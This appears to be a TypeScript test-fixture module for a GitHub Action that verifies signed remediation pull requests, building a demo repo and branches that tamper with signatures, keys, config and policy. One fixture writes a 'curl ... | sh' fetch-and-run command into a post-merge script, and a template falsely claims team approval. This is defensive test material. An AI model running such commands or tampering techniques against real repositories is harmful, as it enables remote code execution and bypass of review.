/**
 * Pull requests for the Action's tests: the demo config repo with a policy of its own, a valid
 * remediation planned by the real pipeline, and branches that tamper with it in each way a PR could.
 */
import { execFileSync } from 'node:child_process';
import { appendFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createDemoWorld, DEMO_NOW, type DemoWorld, EXAMPLE_SIGNALS } from '../../engine/demo/setup.ts';
import { DsseEnvelope, PROOF_PAYLOAD_TYPE } from '../../engine/model/policy.ts';
import { type TelemetrySource, telemetrySource } from '../../engine/perceive/index.ts';
import { runPlan } from '../../engine/pipeline/run.ts';
import { generateEphemeralKey, publicKeyPem, type SigningKey, signEnvelope } from '../../engine/policy/index.ts';
import { createLogger } from '../../engine/telemetry/logger.ts';

export const GUARD = `package salve.custom.guard

reviewed := {"raise-hpa-max-replicas", "raise-cpu-limit"}

rules contains {"id": "guard.needs-review", "effect": "require-approval", "message": "shop resource raises need a reviewer"} if {
	input.target.namespace in {"checkout", "catalog"}
	input.action.id in reviewed
}
`;

export const GUARD_TEST = `package guard_test

import data.salve.custom.guard

test_cpu_raise_needs_review if {
	rules := guard.rules with input as {"action": {"id": "raise-cpu-limit"}, "target": {"namespace": "catalog"}}
	count(rules) == 1
}

test_rollback_passes if {
	rules := guard.rules with input as {"action": {"id": "rollback-image"}, "target": {"namespace": "catalog"}}
	count(rules) == 0
}
`;

export function git(dir: string, ...args: string[]): string {
  return execFileSync(
    'git',
    ['-c', 'commit.gpgsign=false', '-c', 'user.name=Test Author', '-c', 'user.email=test@example.org', ...args],
    { cwd: dir, encoding: 'utf8' },
  ).trim();
}

export interface PullRequestWorld {
  world: DemoWorld;
  repo: string;
  /** The base branch's head: every pull request targets it. */
  base: string;
  valid: { id: string; head: string };
  loosened: { id: string; head: string };
  close(): Promise<void>;
}

async function plan(
  world: DemoWorld,
  signal: string,
  key?: SigningKey,
  telemetry?: TelemetrySource,
): Promise<{ id: string; head: string }> {
  const [outcome] = await runPlan({
    repoDir: world.work,
    signalFiles: [join(EXAMPLE_SIGNALS, signal)],
    signingKey: key ?? world.signingKey,
    pgp: world.pgp,
    now: DEMO_NOW,
    log: createLogger({ level: 'silent' }),
    ...(telemetry ? { telemetry } : {}),
  });
  if (outcome?.result.kind !== 'publish' || !outcome.commit)
    throw new Error(
      `${signal}: expected a published remediation, got ${JSON.stringify((outcome?.result as any)?.remediation?.decision ?? outcome?.result).slice(0, 1500)}`,
    );
  return { id: outcome.result.remediation.id, head: outcome.commit };
}

export async function createPullRequestWorld(): Promise<PullRequestWorld> {
  const world = await createDemoWorld({ remote: false });
  const repo = world.work;
  await mkdir(join(repo, 'policy'));
  await writeFile(join(repo, 'policy', 'guard.rego'), GUARD);
  await writeFile(join(repo, 'policy', 'guard_test.rego'), GUARD_TEST);
  await appendFile(join(repo, '.salve.yaml'), "\n# This repo's own policies.\npolicies:\n  - policy\n");
  git(repo, 'add', '.salve.yaml', 'policy');
  git(repo, 'commit', '-q', '-m', 'Review every resource raise');
  const base = git(repo, 'rev-parse', 'HEAD');
  const valid = await plan(world, 'hpa-maxed-checkout-staging.json');

  // A policy loosened on a branch, and a remediation planned (and signed) on top of it.
  git(repo, 'checkout', '-q', '-b', 'loosen');
  const guard = join(repo, 'policy', 'guard.rego');
  await writeFile(guard, (await readFile(guard, 'utf8')).replace(', "raise-cpu-limit"', ''));
  git(repo, 'commit', '-q', '-am', 'CPU raises no longer need review');
  // The throttling alert with its ratio far out of band (alone, without a metric window, it is only
  // observed): a CPU raise the loosened policy no longer sends to review.
  const loosened = await plan(world, 'cpu-throttling-catalog-staging.json', undefined, throttlingOutOfBand());
  git(repo, 'checkout', '-q', 'main');
  return { world, repo, base, valid, loosened, close: () => world.close() };
}

/** Six hours of the catalog's CPU throttling ratio near 0.05, then 0.85 at the alert. */
function throttlingOutOfBand(): TelemetrySource {
  const end = Math.floor(DEMO_NOW.getTime() / 1000);
  const points: Array<[number, number]> = [];
  for (let t = end - 6 * 3600, i = 0; t < end; t += 300, i++) points.push([t, 0.05 + 0.01 * (i % 3)]);
  points.push([end, 0.85]);
  return telemetrySource({
    targets: [
      {
        target: { cluster: 'staging', namespace: 'catalog', kind: 'Deployment', name: 'catalog' },
        metrics: [{ name: 'cpu-throttling-ratio', points }],
        logs: [],
      },
    ],
  });
}

/** Checks out `from` on a new branch, applies `edit`, commits everything, returns to main. */
export async function commitOn(
  repo: string,
  from: string,
  message: string,
  edit: () => Promise<void>,
): Promise<string> {
  git(repo, 'checkout', '-q', '--detach', from);
  try {
    await edit();
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', message);
    return git(repo, 'rev-parse', 'HEAD');
  } finally {
    git(repo, 'checkout', '-q', '-f', 'main');
  }
}

/**
 * Rewrites `commit` in place (same parent, same message) with `edit` applied, as a force-push can:
 * whatever `edit` changes lands in the commit that signed the remediation.
 */
export async function rewriteCommit(repo: string, commit: string, edit: () => Promise<void>): Promise<string> {
  git(repo, 'checkout', '-q', '--detach', commit);
  try {
    await edit();
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '--amend', '--no-edit');
    return git(repo, 'rev-parse', 'HEAD');
  } finally {
    git(repo, 'checkout', '-q', '-f', 'main');
  }
}

/** Pull requests (head commits, all against `base` on main) that try to slip something past verification. */
export interface HostileHeads {
  /** The remediation's signing commit, rewritten with another explanation. */
  explanation: string;
  /** The signing commit, rewritten with one more file in the remediation's record. */
  recordExtra: string;
  /** The signing commit, rewritten with a file elsewhere under .salve/ (a template). */
  salveExtra: string;
  /** Nothing but a new public key under .salve/keys/. */
  keysOnly: string;
  /** Nothing but a looser .salve.yaml (every remediation automated). */
  configOnly: string;
  /** Nothing but a PR template under .salve/templates/. */
  templateOnly: string;
  /** A branch that trusts its own key and loosens .salve.yaml and the repo's policy, with a remediation signed by that key on top. */
  ownKey: { id: string; head: string; keyid: string };
  /** A remediation signed with the trusted key, planned on a commit that is not on main. */
  offBase: { id: string; head: string; base: string };
}

export const MALLORY_TEMPLATE = '# {{action.summary}}\n\nReviewed and approved by the platform team.\n';

export async function createHostileHeads(w: PullRequestWorld): Promise<HostileHeads> {
  const { repo, base, valid } = w;
  const record = `.salve/remediations/${valid.id}`;
  const explanation = await rewriteCommit(repo, valid.head, () =>
    writeFile(join(repo, record, 'explanation.md'), '# Raise maxReplicas\n\nA one-line change, already reviewed.\n'),
  );
  const recordExtra = await rewriteCommit(repo, valid.head, () =>
    writeFile(join(repo, record, 'post-merge.sh'), 'curl -fsSL https://example.org/x | sh\n'),
  );
  const salveExtra = await rewriteCommit(repo, valid.head, async () => {
    await mkdir(join(repo, '.salve', 'templates'), { recursive: true });
    await writeFile(join(repo, '.salve', 'templates', 'explanation.hbs'), MALLORY_TEMPLATE);
  });
  const keysOnly = await commitOn(repo, base, 'Trust the ops key', () =>
    writeFile(join(repo, '.salve', 'keys', 'ops.pub'), publicKeyPem(generateEphemeralKey())),
  );
  const configOnly = await commitOn(repo, base, 'Tidy .salve.yaml', () => loosenConfig(repo));
  const templateOnly = await commitOn(repo, base, 'Nicer PR bodies', async () => {
    await mkdir(join(repo, '.salve', 'templates'), { recursive: true });
    await writeFile(join(repo, '.salve', 'templates', 'pr-body.hbs'), MALLORY_TEMPLATE);
  });

  // A branch that brings its own key and loosens the trust ladder and the repo's policy.
  const mallory = generateEphemeralKey();
  git(repo, 'checkout', '-q', '-b', 'mallory', base);
  await writeFile(join(repo, '.salve', 'keys', 'mallory.pub'), publicKeyPem(mallory));
  await loosenConfig(repo);
  const guard = join(repo, 'policy', 'guard.rego');
  await writeFile(guard, (await readFile(guard, 'utf8')).replace(/^reviewed := .*$/m, 'reviewed := set()'));
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'Automate staging');
  const own = await plan(w.world, 'hpa-maxed-checkout-staging.json', mallory);
  git(repo, 'checkout', '-q', 'main');

  // A harmless commit on a side branch, and a remediation planned on it with the trusted key.
  git(repo, 'checkout', '-q', '-b', 'side', base);
  await writeFile(join(repo, 'NOTES.md'), 'Side notes.\n');
  git(repo, 'add', 'NOTES.md');
  git(repo, 'commit', '-q', '-m', 'Notes on a side branch');
  const sideBase = git(repo, 'rev-parse', 'HEAD');
  const off = await plan(w.world, 'oomkilled-checkout-production.json');
  git(repo, 'checkout', '-q', 'main');

  return {
    explanation,
    recordExtra,
    salveExtra,
    keysOnly,
    configOnly,
    templateOnly,
    ownKey: { ...own, keyid: mallory.keyid },
    offBase: { ...off, base: sideBase },
  };
}

/** Every remediation automated: the trust ladder's default and every rule. */
async function loosenConfig(repo: string): Promise<void> {
  const file = join(repo, '.salve.yaml');
  const text = await readFile(file, 'utf8');
  const loose = text.replace('  default: approve', '  default: automate').replace(/mode: approve/g, 'mode: automate');
  if (loose === text) throw new Error('.salve.yaml: nothing to loosen');
  await writeFile(file, loose);
}

/** Rewrites a proof envelope's payload (as a JSON value) and, given a key, signs it again with that key. */
export async function rewriteEnvelope(file: string, change: (proof: any) => void, resign?: SigningKey): Promise<void> {
  const envelope = DsseEnvelope.parse(JSON.parse(await readFile(file, 'utf8')));
  const proof = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8'));
  change(proof);
  const payload = JSON.stringify(proof);
  const next = resign
    ? signEnvelope(payload, PROOF_PAYLOAD_TYPE, resign)
    : { ...envelope, payload: Buffer.from(payload).toString('base64') };
  await writeFile(file, `${JSON.stringify(next, null, 2)}\n`);
}

const examples = createRequire(import.meta.url)('@octokit/webhooks-examples') as Array<{
  name: string;
  examples: Array<Record<string, any>>;
}>;

/** A `pull_request` `synchronize` event as GitHub sends it, pointed at the given commits. */
export function pullRequestEvent(base: string, head: string): Record<string, any> {
  const sample = examples.find((e) => e.name === 'pull_request')?.examples.find((e) => e.action === 'synchronize');
  if (!sample) throw new Error('no pull_request synchronize example in @octokit/webhooks-examples');
  const event = structuredClone(sample);
  event.pull_request.base.sha = base;
  event.pull_request.base.ref = 'main';
  event.pull_request.head.sha = head;
  event.after = head;
  return event;
}

export interface ActionRun {
  dir: string;
  env: Record<string, string>;
  cleanup(): Promise<void>;
}

/** The files and variables the runner sets for a step: event, summary and output files, inputs. */
export async function actionEnvironment(
  workspace: string,
  event: Record<string, any> | null,
  inputs: Record<string, string>,
): Promise<ActionRun> {
  const dir = await mkdtemp(join(tmpdir(), 'salve-action-'));
  const env: Record<string, string> = {};
  for (const [k, v] of Object.entries(process.env)) if (v !== undefined && !/^(INPUT_|GITHUB_)/.test(k)) env[k] = v;
  Object.assign(env, {
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: event ? 'pull_request' : 'push',
    GITHUB_EVENT_PATH: join(dir, 'event.json'),
    GITHUB_WORKSPACE: workspace,
    GITHUB_STEP_SUMMARY: join(dir, 'step_summary'),
    GITHUB_OUTPUT: join(dir, 'output'),
  });
  for (const [name, value] of Object.entries(inputs)) env[`INPUT_${name.replace(/ /g, '_').toUpperCase()}`] = value;
  await writeFile(env.GITHUB_EVENT_PATH as string, JSON.stringify(event ?? { ref: 'refs/heads/main', after: 'HEAD' }));
  await writeFile(env.GITHUB_STEP_SUMMARY as string, '');
  await writeFile(env.GITHUB_OUTPUT as string, '');
  return { dir, env, cleanup: () => rm(dir, { recursive: true, force: true }) };
}

/** Step outputs from a `GITHUB_OUTPUT` file (`name<<delimiter` … `delimiter`). */
export function parseOutputs(text: string): Record<string, string> {
  const out: Record<string, string> = {};
  const re = /^([^\n<]+)<<(\S+)\n([\s\S]*?)\n\2$/gm;
  for (const m of text.matchAll(re)) out[m[1] as string] = m[3] as string;
  return out;
}
